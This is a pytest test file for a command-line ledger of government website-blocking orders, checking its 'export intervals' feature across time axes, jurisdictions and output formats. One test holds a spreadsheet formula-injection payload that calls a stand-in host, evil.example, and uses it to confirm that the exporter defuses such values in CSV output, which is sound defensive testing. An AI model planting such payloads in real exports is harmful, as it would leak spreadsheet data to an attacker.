"""Issue 15, item 3: ``export intervals``, one row per platform, target and interval in which
an order held it blocked, on both time axes, against intervals computed by hand."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import UTC, datetime, timedelta

import pytest

from domain.values import When
from ledger.application import open_ledger
from ledger.storage import parse_target
from projections.book import Book
from projections.status import platform_status
from tests.clitools import one_line_error, run

SRC = ("--source", "https://example.org/order")
COLUMNS = ["platform", "target", "jurisdiction", "order", "authority", "instrument",
           "legal_basis", "from", "to"]


def ok(runner, db, *args: str) -> str:
    result = run(runner, db, *args)
    assert result.exit_code == 0, (result.stdout, result.stderr)
    return result.stdout


def register(runner, db, name: str, *targets: str, at: str = "2016-01-01") -> None:
    ok(runner, db, "record", "platform-registered", name, "--at", at, *SRC, "--name", name,
       *[a for t in targets for a in ("--target", t)])


def block(runner, db, ref: str, at: str, platforms: list[str], targets: list[str],
          jurisdiction: str, authority: str = "Kominfo", *extra: str) -> None:
    ok(runner, db, "record", "blocked", ref, "--at", at, *SRC, "--authority", authority,
       "--reason", "terrorism", "--jurisdiction", jurisdiction,
       *[a for p in platforms for a in ("--platform", p)],
       *[a for t in targets for a in ("--target", t)], *extra)


def scenario(runner, db) -> str:
    """The hand-computed case; returns a record time before the back-dated lift."""
    register(runner, db, "telegram", "t.me", "web.telegram.org", "org.telegram.messenger")
    register(runner, db, "wikipedia", "wikipedia.org")
    register(runner, db, "tiktok", "tiktok.com")
    register(runner, db, "wechat", "wechat.com")
    register(runner, db, "vimeo", "vimeo.com")
    # A temporary lift of one target, then a permanent lift of all.
    block(runner, db, "k-2017", "2017-07-14", ["telegram"], ["t.me", "web.telegram.org"], "ID",
          "Kominfo", "--legal-basis", "ITE Law", "--instrument", "Press release 84/2017")
    ok(runner, db, "record", "unblocked", "k-2017", "--at", "2017-08-01", *SRC,
       "--target", "t.me", "--until", "2017-08-05")
    ok(runner, db, "record", "unblocked", "k-2017", "--at", "2017-08-10", *SRC)
    # A court suspends (in effect on publication), then a higher court reinstates.
    block(runner, db, "btk-2017", "2017-04-29", ["wikipedia"], ["wikipedia.org"], "TR", "BTK")
    ok(runner, db, "record", "ruling", "btk-2017", "--at", "2018-01-01", *SRC, "--court",
       "Constitutional Court", "--outcome", "suspended", "--summary", "suspended",
       "--effective-at", "2018-01-10")
    ok(runner, db, "record", "ruling", "btk-2017", "--at", "2018-06-01", *SRC, "--court",
       "Supreme Court", "--outcome", "reinstated", "--summary", "reinstated")
    # An order over two platforms, regional; one platform's target lifted.
    block(runner, db, "meity-2020", "2020-06-29", ["tiktok", "wechat"],
          ["tiktok.com", "wechat.com"], "IN-JK", "MeitY")
    ok(runner, db, "record", "unblocked", "meity-2020", "--at", "2021-01-05", *SRC,
       "--target", "wechat.com")
    # A block, and a lift recorded later, back-dated.
    block(runner, db, "k-2019", "2019-01-01", ["vimeo"], ["vimeo.com"], "ID")
    time.sleep(0.01)
    known = datetime.now(UTC).isoformat()
    time.sleep(0.01)
    ok(runner, db, "record", "unblocked", "k-2019", "--at", "2019-03-01", *SRC)
    return known


def rows(text: str) -> list[tuple[str, ...]]:
    """CSV output as (platform, target, order, from, to) tuples, after checking the
    header."""
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert reader.fieldnames == COLUMNS
    return [(r["platform"], r["target"], r["order"], r["from"], r["to"]) for r in reader]


#: Computed by hand from ``scenario``.
EXPECTED = [
    ("telegram", "t.me", "k-2017", "2017-07-14", "2017-08-01"),
    ("telegram", "t.me", "k-2017", "2017-08-05", "2017-08-10"),
    ("telegram", "web.telegram.org", "k-2017", "2017-07-14", "2017-08-10"),
    ("tiktok", "tiktok.com", "meity-2020", "2020-06-29", ""),
    ("vimeo", "vimeo.com", "k-2019", "2019-01-01", "2019-03-01"),
    ("wechat", "wechat.com", "meity-2020", "2020-06-29", "2021-01-05"),
    ("wikipedia", "wikipedia.org", "btk-2017", "2017-04-29", "2018-01-10"),
    ("wikipedia", "wikipedia.org", "btk-2017", "2018-06-01", ""),
]


def test_the_intervals_are_those_computed_by_hand_on_both_stores(runner, db):
    """Temporary and permanent lifts, a suspension and a reinstatement, an order over two
    platforms with one platform's target lifted: each gives its own intervals, sorted by
    platform, target, from."""
    scenario(runner, db)
    assert rows(ok(runner, db, "export", "intervals")) == EXPECTED
    # The same before the format's name, and as JSON Lines.
    assert rows(ok(runner, db, "--format", "csv", "export", "intervals")) == EXPECTED
    lines = [json.loads(line) for line in
             ok(runner, db, "export", "intervals", "--format", "jsonl").splitlines()]
    assert [(r["platform"], r["target"], r["order"], r["from"], r["to"] or "")
            for r in lines] == EXPECTED
    assert list(lines[0]) == COLUMNS
    tiktok = next(r for r in lines if r["platform"] == "tiktok")
    assert tiktok["to"] is None and tiktok["jurisdiction"] == "IN-JK"
    telegram = lines[0]
    assert (telegram["authority"], telegram["legal_basis"], telegram["instrument"]) == (
        "Kominfo", "ITE Law", "Press release 84/2017")


def test_as_of_cuts_valid_time(runner, db):
    """As of a day inside a temporary lift, the interval it ended is closed and the next
    has not begun; what was still blocked then has no end."""
    scenario(runner, db)
    found = rows(ok(runner, db, "export", "intervals", "--as-of", "2017-08-03"))
    assert found == [
        ("telegram", "t.me", "k-2017", "2017-07-14", "2017-08-01"),
        ("telegram", "web.telegram.org", "k-2017", "2017-07-14", ""),
        ("wikipedia", "wikipedia.org", "btk-2017", "2017-04-29", ""),
    ]
    # Given but not yet in effect, the suspension has not ended anything.
    found = rows(ok(runner, db, "export", "intervals", "--as-of", "2018-01-05"))
    assert ("wikipedia", "wikipedia.org", "btk-2017", "2017-04-29", "") in found


def test_as_known_at_before_and_after_a_back_dated_lift(runner, db):
    """A lift recorded later but back-dated: before it was recorded the block is open, after
    it the interval ends at the lift's valid time."""
    known = scenario(runner, db)
    before = rows(ok(runner, db, "export", "intervals", "--as-known-at", known))
    after = rows(ok(runner, db, "export", "intervals"))
    assert ("vimeo", "vimeo.com", "k-2019", "2019-01-01", "") in before
    assert ("vimeo", "vimeo.com", "k-2019", "2019-01-01", "2019-03-01") in after
    assert [r for r in before if r[0] != "vimeo"] == [r for r in after if r[0] != "vimeo"]
    # Before anything was recorded: nothing.
    assert rows(ok(runner, db, "export", "intervals", "--as-known-at", "2000-01-01")) == []


@pytest.mark.parametrize("asked, platforms", [
    ("IN", {"tiktok", "wechat"}),       # a regional order counts in its country's export
    ("IN-JK", {"tiktok", "wechat"}),    # and in its own
    ("IN-MH", set()),                   # not in another region's
    ("ID", {"telegram", "vimeo"}),
    ("TR", {"wikipedia"}),
    ("BR", set()),
])
def test_jurisdiction_keeps_the_orders_that_bind_it(runner, sqlite_path, asked, platforms):
    scenario(runner, sqlite_path)
    found = rows(ok(runner, sqlite_path, "export", "intervals", "--jurisdiction", asked))
    assert {r[0] for r in found} == platforms
    assert found == [r for r in EXPECTED if r[0] in platforms]


def test_a_bad_jurisdiction_or_time_is_one_line_exit_2(runner, sqlite_path):
    scenario(runner, sqlite_path)
    assert "jurisdiction" in one_line_error(
        run(runner, sqlite_path, "export", "intervals", "--jurisdiction", "India"), 2)
    assert "yesterday" in one_line_error(
        run(runner, sqlite_path, "export", "intervals", "--as-of", "yesterday"), 2)
    assert "--format" in one_line_error(
        run(runner, sqlite_path, "--format", "json", "export", "intervals"), 2)


def test_every_interval_agrees_with_status_as_of_on_either_side_of_its_ends(runner,
                                                                          sqlite_path):
    """At each boundary and a second before it, a platform's blocked targets (status) are
    exactly the targets of the intervals that cover that instant, [from, to)."""
    scenario(runner, sqlite_path)
    lines = [json.loads(line) for line in ok(runner, sqlite_path, "export", "intervals",
                                             "--format", "jsonl").splitlines()]
    with open_ledger(parse_target(sqlite_path)) as ledger:
        book = Book(ledger.entries())
    edges = {When.parse(r[k]).instant for r in lines for k in ("from", "to") if r[k]}
    for edge in sorted(edges):
        for instant in (edge, edge - timedelta(seconds=1)):
            for platform in {r["platform"] for r in lines}:
                status = platform_status(book, platform, as_of=When.of(instant))
                covered = {r["target"] for r in lines if r["platform"] == platform
                           and When.parse(r["from"]).instant <= instant
                           and (r["to"] is None or instant < When.parse(r["to"]).instant)}
                assert set(status["blocked_targets"]) == covered, (platform, instant)


def test_hostile_text_survives_csv_and_cannot_start_a_formula(runner, sqlite_path):
    """Commas, quotes and backslashes round-trip through Python's csv reader; a value a
    spreadsheet would run as a formula is written with a leading apostrophe in CSV only."""
    register(runner, sqlite_path, "x", "x.com")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    block(runner, sqlite_path, "o-1", "2020-01-01", ["x"], ["x.com"], "ID",
          'Ministry "A", B\\C', "--legal-basis", formula, "--instrument", "@SUM(1+1)")
    text = ok(runner, sqlite_path, "export", "intervals")
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["authority"] == 'Ministry "A", B\\C'
    assert row["legal_basis"] == "'" + formula and row["instrument"] == "'@SUM(1+1)"
    [line] = ok(runner, sqlite_path, "export", "intervals", "--format", "jsonl").splitlines()
    assert json.loads(line)["legal_basis"] == formula


class TestOutput:
    """``-o`` as every other: never over an existing file without --force, never over the
    ledger; the plain ``export`` is unchanged."""

    def test_an_existing_file_is_refused_then_forced(self, runner, sqlite_path, tmp_path):
        scenario(runner, sqlite_path)
        out = tmp_path / "intervals.csv"
        out.write_text("keep me")
        line = one_line_error(run(runner, sqlite_path, "export", "intervals", "-o",
                                  str(out)), 2)
        assert "exists" in line and "--force" in line
        assert out.read_text() == "keep me"
        result = run(runner, sqlite_path, "export", "intervals", "-o", str(out), "--force")
        assert result.exit_code == 0 and "exported 8 intervals" in result.stderr
        with open(out, newline="") as written:
            assert rows(written.read()) == EXPECTED

    def test_the_ledger_itself_is_refused(self, runner, sqlite_path):
        scenario(runner, sqlite_path)
        for args in (["intervals"], ["test-list", "--jurisdiction", "ID"]):
            line = one_line_error(run(runner, sqlite_path, "export", *args, "-o",
                                      sqlite_path, "--force"), 2)
            assert "ledger's own file" in line

    def test_export_options_before_a_subcommand_are_refused(self, runner, sqlite_path,
                                                             tmp_path):
        scenario(runner, sqlite_path)
        out = tmp_path / "x.csv"
        line = one_line_error(run(runner, sqlite_path, "export", "-o", str(out),
                                  "intervals"), 2)
        assert "after 'export intervals'" in line and not out.exists()

    def test_export_alone_still_writes_every_event(self, runner, sqlite_path):
        scenario(runner, sqlite_path)
        lines = ok(runner, sqlite_path, "export").splitlines()
        assert len(lines) == 15 and {"hash", "position"} <= set(json.loads(lines[0]))
        assert ok(runner, sqlite_path, "export", "--format", "csv").startswith("position,")


def test_an_encrypted_ledger_exports_the_same_rows_in_the_same_order(runner, sqlite_path,
                                                                     monkeypatch):
    """With a cipher the views' platform keys are keyed hashes, in no name's order; the
    export still comes sorted by platform, each platform's rows folded from its own."""
    from ledger import encryption

    monkeypatch.setenv(encryption.KEY_VARIABLE, encryption.new_key())
    scenario(runner, sqlite_path)
    assert rows(ok(runner, sqlite_path, "export", "intervals")) == EXPECTED
    # Platforms with no kept status row are named from their own events.
    import sqlite3

    from ledger.views import STATUS

    with sqlite3.connect(sqlite_path) as connection:
        connection.execute(f"DELETE FROM {STATUS}")
    assert rows(ok(runner, sqlite_path, "export", "intervals")) == EXPECTED


def test_without_views_the_log_gives_the_same_rows(runner, sqlite_path):
    """Where the views cannot be written (a read-only connection) the rows come from one
    book of the whole log: the same rows, in the same order."""
    from projections.intervals import ledger_intervals
    from projections.views import Views

    known = scenario(runner, sqlite_path)
    with open_ledger(parse_target(sqlite_path)) as ledger:
        for as_known_at in (None, When.parse(known)):
            at = as_known_at.instant if as_known_at else None
            views = Views(ledger)
            views.catch_up()
            from_views = [i.record() for i in ledger_intervals(views,
                                                               as_known_at=as_known_at)]
            from_log = [i.record() for i in ledger_intervals(
                None, book=Book(ledger.entries(), as_known_at=at), as_known_at=as_known_at)]
            assert from_views == from_log and len(from_log) == 8
